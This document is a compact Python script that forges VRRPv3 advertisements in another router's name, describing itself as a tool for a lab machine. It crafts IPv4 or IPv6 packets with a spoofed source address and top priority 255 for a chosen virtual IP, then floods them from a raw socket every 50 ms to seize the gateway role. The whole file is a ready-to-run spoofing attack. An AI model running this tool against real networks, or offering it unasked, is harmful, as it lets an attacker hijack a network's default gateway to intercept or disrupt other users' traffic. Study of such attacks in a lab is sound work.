"""Sends VRRP adverts in another router's name: a program, for a machine of the lab.

Arguments: source, destination, VIP, virtual_router_id, TTL, seconds. Formats: RFC 5798, 5; RFC 791; RFC 8200.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from ipaddress import ip_address

VRRP = 112
PRIORITY = 255


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged_advert(source: str, target: str, vip: str, router_id: int, ttl: int) -> bytes:
    """A VRRPv3 advert with its IP header."""
    sender, receiver, virtual = (ip_address(address).packed for address in (source, target, vip))

    def advert(check: int) -> bytes:
        return struct.pack("!BBBBHH", 0x31, router_id, PRIORITY, 1, 10, check) + virtual

    length = len(advert(0))
    if len(virtual) == 4:
        pseudo = sender + receiver + struct.pack("!BBH", 0, VRRP, length)
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 1, 0, ttl, VRRP, 0)
    else:
        pseudo = sender + receiver + struct.pack("!I3xB", length, VRRP)
        header = struct.pack("!IHBB", 6 << 28, length, VRRP, ttl)
    return header + sender + receiver + advert(checksum(pseudo + advert(0)))


def main() -> None:
    """Send one every 50 ms."""
    source, target, vip, router_id, ttl, seconds = sys.argv[1:]
    packet = forged_advert(source, target, vip, int(router_id), int(ttl))
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    end = time.monotonic() + float(seconds)
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while time.monotonic() < end:
            sender.sendto(packet, (target, 0))
            time.sleep(0.05)


if __name__ == "__main__":
    main()
